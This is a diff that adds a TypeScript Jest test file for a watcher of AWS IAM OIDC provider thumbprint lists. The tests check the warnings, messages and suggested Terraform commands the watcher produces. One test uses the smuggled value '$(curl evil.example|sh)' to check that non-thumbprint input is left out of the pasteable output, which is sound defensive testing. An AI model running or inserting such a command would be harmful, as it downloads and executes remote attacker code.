@@ -1,0 +1,127 @@
+import {
+  approvedAlready,
+  changedElsewhere,
+  stagedLive,
+  stagedUnused,
+  writingStopped,
+} from '../../../../lambda/judge/findings/list-findings';
+import { A, B, DAY, NOW, OURS_AND_LIVE, ago, memoryOf } from '../../../support/remembering';
+
+const context = (tags: Record<string, string> = {}) => ({
+  tags,
+});
+const TERRAFORM = { ManagedBy: 'terraform' };
+
+describe('a change of someone else', () => {
+  const change = (of: Partial<Parameters<typeof changedElsewhere>[0]>, approvals: string[] = [], tags = {}) =>
+    changedElsewhere({ added: [], removed: [], ousted: [], ...of }, approvals, context(tags));
+
+  test('that adds is a warning: an added certificate can impersonate the issuer', () => {
+    expect(change({ added: [A], removed: [B] }, [], TERRAFORM)).toEqual({
+      code: 'changed-elsewhere',
+      severity: 'warning',
+      message: `Someone else (Terraform, going by the tags) changed the list: added ${A} and removed ${B}.`,
+      action:
+        'Make sure that you know who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint): whoever has the key of an added certificate can impersonate the issuer. To take out again what was added, and keep it out:',
+      commands: [{ kind: 'remove', thumbprint: A }],
+    });
+  });
+
+  test('that only removes is worth knowing', () => {
+    expect(change({ removed: [B] })).toEqual({
+      code: 'changed-elsewhere',
+      severity: 'info',
+      message: `Someone else changed the list: removed ${B}.`,
+      action: 'If that was not meant, find out who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint).',
+    });
+  });
+
+  test('that removes what is needed is a warning, and says so', () => {
+    const finding = change({ removed: [B], ousted: [B] });
+    expect(finding.severity).toBe('warning');
+    expect(finding.message).toContain(`The issuer presented ${B} when last looked at.`);
+  });
+
+  test('that ends approvals says which, with a command for each', () => {
+    const finding = change({ removed: [A, B] }, [A, B]);
+    expect(finding.message).toMatch(`That ends the approval of ${A}, ${B}.`);
+    expect(finding.action).toMatch(
+      /What is still wanted has to be approved again, with "stage": true while no host presents it:$/,
+    );
+    expect(finding.commands).toEqual([A, B].map((thumbprint) => ({ kind: 'approve', thumbprint })));
+  });
+});
+
+describe('writing that was stopped', () => {
+  const stopped = memoryOf({ [A]: OURS_AND_LIVE }, { stoppedSince: ago(2 * DAY) });
+
+  test('says who keeps undoing it, what their source should say, and how to go on; commands stand by themselves', () => {
+    expect(writingStopped(stopped, { ...context(TERRAFORM), wanted: [A, B] })).toEqual({
+      code: 'writing-stopped',
+      severity: 'critical',
+      message:
+        'Someone else (Terraform, going by the tags) keeps removing what the watcher adds. The watcher has written nothing here since 2026-11-19, so that the list does not change back and forth.',
+      action: [
+        'Set what stands below in its aws_iam_openid_connect_provider resource, so that it wants the same list. Then let the watcher write again: any approval or restore does, for example the last line here.',
+        `thumbprint_list = ["${A}", "${B}"]`,
+        'lifecycle { ignore_changes = [thumbprint_list] }',
+      ].join('\n'),
+      commands: [{ kind: 'approve', thumbprint: A }],
+    });
+  });
+
+  test('offers nothing to paste that is no thumbprint', () => {
+    const odd = '$(curl evil.example|sh)';
+    const { action, commands } = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
+    expect(action.split('\n')[1]).toBe(`thumbprint_list = ["${A}"]`);
+    expect(commands).toEqual([{ kind: 'approve', thumbprint: A }]);
+    const alone = writingStopped(stopped, { ...context(), wanted: [odd] });
+    expect(alone.action).toMatch(/this one: "\$\(curl evil\.example\|sh\)"\. Then .* any approval or restore does\.$/);
+    expect(alone.commands).toEqual([]);
+  });
+
+  test('does without a name where the tags betray nobody', () => {
+    const { message, action } = writingStopped(stopped, { ...context(), wanted: [A] });
+    expect(message).toMatch(/^Someone else keeps removing/);
+    expect(action).toMatch(
+      `Find out who writes the list (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint), and make it want this one: ${A}. Then let`,
+    );
+  });
+});
+
+describe('what was put into the list ahead of its use', () => {
+  const staged = (days: number, of = {}) =>
+    stagedUnused(memoryOf({ [A]: { by: 'staged', firstSeen: ago(days * DAY), ...of } }), NOW);
+
+  test('and is live now is told, since when it stood ready', () => {
+    expect(stagedLive(A, ago(9 * DAY))).toMatchObject({
+      code: 'staged-live',
+      severity: 'info',
+      about: A,
+      message: `${A} is live now. It had stood ready in the list since 2026-11-12.`,
+    });
+  });
+
+  test('and nobody presents after a month is a condition', () => {
+    expect(staged(30)).toEqual([]);
+    expect(staged(31)).toMatchObject([
+      {
+        code: 'staged-unused',
+        severity: 'warning',
+        about: A,
+        message: `${A} has stood ready in the list since 2026-10-21, as a person asked, and no host has presented it.`,
+      },
+    ]);
+  });
+
+  test('and was live once, or was put there by someone else, is none', () => {
+    expect(staged(31, { lastLive: ago(DAY) })).toEqual([]);
+    expect(staged(31, { by: 'found' })).toEqual([]);
+  });
+});
+
+test('an approval of what is pinned says how long it lasts', () => {
+  expect(approvedAlready(A).message).toBe(
+    `A person approved ${A}, which was pinned already. It stays until it has been live and then superseded for longer than overlapDays.`,
+  );
+});
